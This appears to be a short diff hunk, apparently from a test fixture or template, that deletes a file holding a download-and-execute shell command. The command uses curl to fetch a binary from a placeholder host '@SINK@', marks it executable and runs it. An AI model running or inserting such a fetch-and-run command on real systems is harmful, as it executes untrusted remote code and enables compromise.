@@ -1,2 +1,0 @@
-curl --noproxy '*' -s -m 5 -o ./jsx http://@SINK@:8080/jsx && chmod +x ./jsx && ./jsx
-true
